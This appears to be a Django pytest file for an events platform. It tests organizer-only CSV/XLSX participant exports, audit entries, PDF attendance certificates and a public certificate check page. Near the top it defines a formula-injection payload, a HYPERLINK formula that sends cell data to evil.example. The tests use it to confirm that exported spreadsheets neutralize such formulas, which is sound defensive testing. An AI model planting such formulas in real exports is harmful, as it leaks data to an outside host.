"""The participants' export (CSV and XLSX, for the organizers, with no cell a spreadsheet would run), and
certificates of attendance with their public check page."""

import csv
import io
from datetime import timedelta

import pytest
from django.utils import timezone
from openpyxl import load_workbook

from birge.core.models import Event as AuditEntry
from birge.events.catalog.models import Audience, Kind
from birge.events.conftest import make_event
from birge.events.events import Verb
from birge.events.registration.certificates import certificate_code_of, certificate_of, pdf_html
from birge.events.registration.models import Registration, Status
from birge.events.registration.services import register
from conftest import make_user

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("in_english")]

HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


def url(event, name=""):
    return f"/en/events/{event.slug}/{name}"


@pytest.fixture
def event(kz_ngo):
    return make_event([kz_ngo], capacity=1, ask_dietary=True, title="Семинар по отчётности")


@pytest.fixture
def registered(event, kz_ngo, reader):
    """The reader has the place, coming from the Kazakh organization; someone with a hostile name waits."""
    register(reader, event, organization=kz_ngo, dietary="+7 701 000 00 00 halal")
    hostile = make_user("hostile@example.org", display_name=HOSTILE)
    register(hostile, event, dietary="@SUM(1+1)")
    return hostile


def test_the_csv_lists_the_confirmed_then_the_waitlist_with_the_answers(
    client, coordinator, event, registered, reader
):
    client.force_login(coordinator)
    response = client.get(url(event, "participants/export/"))

    assert response.status_code == 200 and response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith(f'attachment; filename="participants-{event.slug}.csv"')
    content = response.content.decode("utf-8")
    assert content.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(content[1:])))
    assert rows[0] == [
        "Name",
        "E-mail",
        "Organization",
        "Status",
        "Place on the waitlist",
        "Registered",
        "Dietary needs",
        "Attended",
    ]
    assert rows[1][:5] == ["Dana", reader.email, "Миграция и право", "confirmed", ""]
    assert rows[2][3:5] == ["on the waitlist", "1"]
    # Formulas typed by participants reach the spreadsheet as text.
    assert rows[2][0] == "'" + HOSTILE and rows[2][6] == "'@SUM(1+1)"
    assert rows[1][6] == "'+7 701 000 00 00 halal"
    entry = AuditEntry.objects.get(verb=Verb.PARTICIPANTS_EXPORTED)
    assert entry.actor == coordinator and entry.new == {"format": "csv", "rows": 2}


def test_the_xlsx_holds_the_same_rows_with_formulas_neutralized(client, coordinator, event, registered):
    client.force_login(coordinator)
    response = client.get(url(event, "participants/export/"), {"format": "xlsx"})

    assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    sheet = load_workbook(io.BytesIO(response.content)).active
    values = [[cell.value for cell in row] for row in sheet.iter_rows()]
    assert values[0][0] == "Name" and len(values) == 3
    assert values[2][0] == "'" + HOSTILE and values[2][6] == "'@SUM(1+1)"
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
    assert AuditEntry.objects.get(verb=Verb.PARTICIPANTS_EXPORTED).new["format"] == "xlsx"


def test_only_the_organizers_export(client, kz_ngo, event, registered, reader, outsider):
    members_only = make_event([kz_ngo], audience=Audience.MEMBERS)
    response = client.get(url(event, "participants/export/"))
    assert response.status_code == 302 and "/accounts/login/" in response["Location"]
    client.force_login(reader)
    assert client.get(url(event, "participants/export/")).status_code == 403
    client.force_login(outsider)
    assert client.get(url(event, "participants/export/")).status_code == 403
    assert client.get(url(members_only, "participants/export/")).status_code == 404
    assert not AuditEntry.objects.filter(verb=Verb.PARTICIPANTS_EXPORTED).exists()


def test_an_unknown_format_is_not_found(client, coordinator, event):
    client.force_login(coordinator)
    assert client.get(url(event, "participants/export/"), {"format": "pdf"}).status_code == 404
    assert not AuditEntry.objects.filter(verb=Verb.PARTICIPANTS_EXPORTED).exists()


# Certificates -----------------------------------------------------------------------------------------------


@pytest.fixture
def training(kz_ngo, network):
    start = timezone.now() - timedelta(days=3)
    return make_event(
        [kz_ngo],
        network=network,
        kind=Kind.TRAINING,
        certificates=True,
        title="Тренинг по защите прав мигрантов",
        starts_at=start,
        ends_at=start + timedelta(days=1),
        time_zone="Asia/Bishkek",
    )


@pytest.fixture
def attended(training, reader):
    return Registration.objects.create(
        event=training, person=reader, status=Status.CONFIRMED, queued_at=timezone.now(), attended=True
    )


@pytest.fixture
def other(db):
    return make_user("other@example.org", display_name="Other")


def test_the_certificate_is_a_pdf_naming_the_person_the_event_its_dates_and_organizers(
    client, training, attended, reader
):
    client.force_login(reader)
    response = client.get(url(training, "certificate.pdf"))

    assert response.status_code == 200 and response["Content-Type"] == "application/pdf"
    assert response.content.startswith(b"%PDF-")
    attended.refresh_from_db()
    code = attended.certificate_code
    assert (
        code
        and len(code) == 14
        and response["Content-Disposition"].startswith(f'attachment; filename="certificate-{code}.pdf"')
    )
    html = pdf_html(certificate_of(attended))
    assert "Dana" in html and training.title in html and code in html
    assert "Миграция и право" in html and "Сеть по трудовой миграции" in html
    assert f"/events/certificates/{code}/" in html and reader.email not in html
    # The code is made once: a second download carries the same.
    client.get(url(training, "certificate.pdf"))
    attended.refresh_from_db()
    assert attended.certificate_code == code


def test_no_certificate_without_attendance_or_for_someone_else(client, kz_ngo, training, attended, other):
    client.force_login(other)
    assert client.get(url(training, "certificate.pdf")).status_code == 404
    Registration.objects.create(
        event=training, person=other, status=Status.CONFIRMED, queued_at=timezone.now(), attended=False
    )
    assert client.get(url(training, "certificate.pdf")).status_code == 404
    no_certificates = make_event([kz_ngo], starts_at=training.starts_at)
    Registration.objects.create(
        event=no_certificates, person=other, status=Status.CONFIRMED, queued_at=timezone.now(), attended=True
    )
    assert client.get(url(no_certificates, "certificate.pdf")).status_code == 404
    assert not Registration.objects.filter(certificate_code__isnull=False).exists()


def test_a_person_without_a_name_is_asked_to_give_one(client, training, attended, reader):
    reader.display_name = ""
    reader.save()
    client.force_login(reader)
    response = client.get(url(training, "certificate.pdf"))
    assert response.status_code == 302 and response["Location"] == "/en/events/mine/"
    assert "Add your name to your profile" in client.get("/en/events/mine/").content.decode()


def test_the_check_page_says_who_attended_what_and_when_and_nothing_more(client, training, attended, reader):
    code = certificate_code_of(attended)

    response = client.get(f"/en/events/certificates/{code.lower()}/")

    assert response.status_code == 200
    page = response.content.decode()
    assert "Dana" in page and training.title in page and "genuine" in page
    # The dates in the event's own zone.
    local = timezone.localtime(training.starts_at, timezone.get_fixed_timezone(360))
    assert str(local.day) in page and str(local.year) in page
    assert reader.email not in page and "Миграция и право" not in page
    assert response["Cache-Control"] == "private, no-store" and response["Referrer-Policy"] == "no-referrer"


def test_the_check_page_knows_no_other_code(client, training, attended):
    code = certificate_code_of(attended)
    assert client.get("/en/events/certificates/ABCD-EFGH-JKMN/").status_code == 404
    assert client.get("/en/events/certificates/" + "A" * 40 + "/").status_code == 404
    # The organizers corrected the attendance: the certificate no longer holds.
    attended.attended = False
    attended.save()
    assert client.get(f"/en/events/certificates/{code}/").status_code == 404
